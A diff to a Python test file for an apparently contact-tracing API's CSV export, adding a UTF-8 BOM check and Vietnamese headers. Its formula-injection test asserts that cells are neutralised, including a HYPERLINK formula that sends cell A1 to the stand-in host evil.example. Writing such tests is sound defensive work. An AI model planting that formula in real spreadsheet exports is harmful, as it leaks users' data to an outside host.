@@ -134,9 +134,10 @@ def test_csv_export_neutralises_formulas(tracer: TraceClient) -> None:
     r = t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers,
                    params={"format": "csv", "include": "personal", "depth": 2})
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(r.text)))
+    assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read the Vietnamese right
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
     header, body = rows[0], rows[1:]
-    assert header[:3] == ["case_id", "person_id", "generation"] and len(body) == 3
+    assert header[:3] == ["Mã ca bệnh", "Mã người", "Cấp (F)"] and len(body) == 3
     cells = [cell for row in body for cell in row]
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")' in cells
     assert "'@SUM(1+1)" in cells and "'+84 phường Đức Xuân" in cells
@@ -162,7 +163,7 @@ def test_exposure_sites_span_the_stay_widened_by_w(tracer: TraceClient) -> None:
 def test_unknown_case_and_bad_parameters_are_contract_errors(tracer: TraceClient) -> None:
     t = tracer
     case_id = t.case(t.pid("case"), T0, T0 + H)
-    for params in ({"depth": 3}, {"window_minutes": -1}, {"format": "xlsx"}, {"include": "all"}):
+    for params in ({"depth": 3}, {"window_minutes": -1}, {"format": "pdf"}, {"include": "all"}):
         r = t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers, params=params)
         assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_request", params
     r = t.http.post(f"{t.url}/v1/cases", headers=t.headers,
